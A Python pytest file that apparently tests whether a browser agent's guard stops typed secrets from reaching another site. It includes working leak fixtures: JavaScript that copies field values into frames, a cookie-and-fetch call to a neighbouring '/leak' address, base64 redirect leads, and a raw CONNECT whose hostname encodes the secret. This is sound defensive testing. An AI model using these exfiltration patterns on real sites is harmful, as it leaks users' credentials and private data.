"""No secret reaches a site to which it does not belong: every way is tried with one that does not, and with one that
does to see it work."""

from __future__ import annotations

import asyncio
import base64
import re
from collections.abc import Callable, Sequence
from dataclasses import replace

import pytest

from holotron.types import Action, Goto, StepResult, Wait, Write
from tests.effects.world import World, fill
from tests.secrets.conftest import ONE, OTHER, Keeper, Run
from tests.secrets.ways import AT, FIELD, IN, PRESS, TYPE, WAYS, Way, button

pytestmark = pytest.mark.browser
NEVER = ("dragged into a frame",)  # not even to where it belongs
ALONE = [way for way in WAYS if not way.together]
TOGETHER = [way for way in WAYS if way.together]
MANY = 16  # in one page


def _named(keeper: Keeper, actions: Sequence[Action], name: str) -> list[Action]:
    found: list[Action] = []
    for action in actions:
        if isinstance(action, Write):
            action = replace(action, content=action.content.replace("NAME", name))
        if isinstance(action, Goto):
            action = replace(action, url=fill(action.url, keeper.here, keeper.there))
        found.append(action)
    return found


async def _arrived(keeper: Keeper, enough: Callable[[set[str]], bool], patience: float) -> set[str]:
    """Addresses that the other site was asked for and that leak something; waits until they are enough."""
    found: set[str] = set()
    for _ in range(int(patience / 0.02)):
        asked_for = [line.split(" ")[1] for line in keeper.there.received]
        found = {match[0] for address in asked_for if (match := re.match(r"/leak[\d-]*", address))}
        if enough(found):
            break
        await asyncio.sleep(0.02)
    return found


def _tells_nothing(results: list[StepResult]) -> str:
    seen = [result.observation for result in results]
    said = repr([(result.info, one.url, one.title, one.note) for result, one in zip(results, seen, strict=True)])
    assert ONE not in said and OTHER not in said
    return said


async def tried(keeper: Keeper, way: Way, name: str) -> tuple[list[StepResult], set[str]]:
    """What came of it, and what the other site has got."""
    await keeper.open(f"<!doctype html><title>page</title>{way.html}", way.pages, way.other)
    results = await keeper.do(*_named(keeper, way.actions, name))
    return results, await _arrived(keeper, bool, 0.2 if name == "one" else 3)


@pytest.mark.parametrize("way", ALONE, ids=lambda way: way.name)
def test_nothing_arrives(run: Run, keeper: Keeper, way: Way) -> None:
    async def main() -> None:
        results, leaked = await tried(keeper, way, "one")
        assert not leaked
        _tells_nothing(results)
        if way.asked:
            held = [result.info for result in results if result.info.get("refused")]
            assert held and "<secret:one>" in held[0]["asked"], results
        else:
            assert not keeper.questions
        if way.name not in NEVER:
            _, leaked = await tried(keeper, way, "other")
            assert leaked, "this is no way to another site, so the test shows nothing"

    run(main())


# In a page of many frames, each with one of the ways: what is typed into the page's field goes into theirs.
FRAMES = (
    f"<!doctype html><title>page</title>{FIELD}<button {AT} onclick='go()'>Go</button><div style='margin-top:120px'>"
    "</div><script>go=()=>{for(const f of document.querySelectorAll('iframe')){const d=f.contentDocument,"
    "t=d.querySelector('input');t.value=i.value;for(const k of ['input','change'])t.dispatchEvent(new Event(k));"
    "d.querySelector('button,a')?.click()}}</script>"
)


def _framed(keeper: Keeper, ways: Sequence[Way]) -> tuple[str, dict[str, str], dict[str, str]]:
    """The page, its frames, and the other site's pages. Addresses that leak bear the number of their way."""
    html, pages, other = FRAMES, dict[str, str](), dict[str, str]()
    keeper.answers = {}
    for number, way in enumerate(ways):
        mark = f"-{number:02}"

        def own(text: str, way: Way = way, mark: str = mark) -> str:
            leads = base64.b64encode(keeper.there.url(f"/leak{mark}").encode()).decode()
            for path in (*way.pages, *way.other, "/leak"):
                text = re.sub(rf"{path}\b", f"/x{mark}{path}" if path in way.pages else f"{path}{mark}", text)
            return text.replace("REDIRECT", leads)

        html += f"<iframe width=20 height=20 src=/way{mark}></iframe>"
        pages |= {f"/way{mark}": f"<!doctype html>{own(way.html)}"}
        pages |= {f"/x{mark}{path}": own(text) for path, text in way.pages.items()}
        other |= {f"{path}{mark}": own(text) for path, text in way.other.items()}
        for path, said in way.headers.items():
            at = f"/way{mark}" if path == "/" else f"/x{mark}{path}"
            keeper.answers[at] = {name: fill(own(value), keeper.here, keeper.there) for name, value in said.items()}
    return html, pages, other


async def tried_together(keeper: Keeper, ways: Sequence[Way], name: str) -> tuple[list[StepResult], set[str]]:
    html, pages, other = _framed(keeper, ways)
    await keeper.open(html, pages, other)
    results = await keeper.do(*_named(keeper, (TYPE, PRESS, Wait(0.5)), name))
    wanted = 0 if name == "one" else len(ways)
    due = {way.name for way in ways if way.asked and not way.silent} if name == "one" else set()
    for _ in range(10):  # workers begin when a core is free
        if _asked(keeper, ways) >= due:
            break
        results += await keeper.do(Wait(0.5))
    leaked = await _arrived(keeper, lambda found: wanted and len(found) >= wanted, 0.3 if name == "one" else 6)
    keeper.answers = {}
    return results, {ways[int(address[6:8])].name for address in leaked}


def _asked(keeper: Keeper, ways: Sequence[Way]) -> set[str]:
    """The ways that there was a question about."""
    about = [f"{question.address} {question.summary}" for question in keeper.questions]
    return {way.name for number, way in enumerate(ways) if any(f"/leak-{number:02}" in one for one in about)}


@pytest.mark.parametrize("first", range(0, len(TOGETHER), MANY))
def test_nothing_arrives_of_many(run: Run, keeper: Keeper, keeper_of_other: Keeper, first: int) -> None:
    ways = TOGETHER[first : first + MANY]

    async def main() -> None:
        results, leaked = await tried_together(keeper, ways, "one")
        assert leaked == set()
        _tells_nothing(results)
        assert _asked(keeper, ways) == {way.name for way in ways if way.asked and not way.silent}
        assert all("takes <secret:one> to another site" in question.summary for question in keeper.questions)
        dropped = [one for result in results for one in result.info.get("dropped", ())]
        assert len(dropped) >= sum(way.silent for way in ways), results

        _, leaked = await tried_together(keeper_of_other, ways, "other")
        assert leaked == {way.name for way in ways}, "these are no ways to another site, so the test shows nothing"

    run(main())


def test_cookies_do_not_take_it_along(run: Run, keeper: Keeper) -> None:
    """They know no ports: what one site keeps is sent to its neighbour."""
    page = FIELD + button("document.cookie='c='+i.value;fetch('NEXT/leak',{mode:'no-cors',credentials:'include'})")
    neighbour = World()

    async def main() -> None:
        await keeper.open(page, NEXT=neighbour.url(""))
        await keeper.do(Write("harmless", 100, 90), PRESS)
        assert "c=harmless" in neighbour.received[0]  # it is a way
        neighbour.forget()
        await keeper.open(page, NEXT=neighbour.url(""))
        await keeper.do(Write("<secret:one>", 100, 90), PRESS)
        assert neighbour.received == [] and "<secret:one>" in keeper.questions[0].summary

    try:
        run(main())
    finally:
        neighbour.close()


def test_names_of_hosts_do_not_take_it_along(run: Run, keeper: Keeper) -> None:
    """A connection that the browser opens ahead is no request, but its name would be looked up."""

    async def main() -> tuple[bytes, str]:
        await keeper.open(FIELD)
        await keeper.do(Write("<secret:one>", 100, 90))
        _, _, port = keeper.environment._open_session._guard.proxy["server"].rpartition(":")
        reader, writer = await asyncio.open_connection("127.0.0.1", int(port))
        writer.write(f"CONNECT x{ONE.encode().hex()}.example:443 HTTP/1.1\r\n\r\n".encode())
        answer = await reader.read()
        writer.close()
        return answer, _tells_nothing(await keeper.do(Wait(0)))

    answer, told = run(main())
    assert answer.startswith(b"HTTP/1.1 403") and "a name that holds a secret is not looked up" in told


def test_a_field_that_hands_the_focus_on_gets_nothing(run: Run, keeper: Keeper) -> None:
    page = f"<input id=i {IN} onkeydown='j.focus()'><input id=j><iframe id=f></iframe>"

    async def main() -> tuple[str, str]:
        await keeper.open(page)
        (result,) = await keeper.do(Write("<secret:one>", 100, 90))
        return await keeper.environment.evaluate("i.value + j.value"), result.observation.note

    typed, note = run(main())
    assert typed == "" and "did not keep the focus" in note


def test_there_are_enough_of_them() -> None:
    assert len({way.name for way in WAYS}) == len(WAYS) >= 25
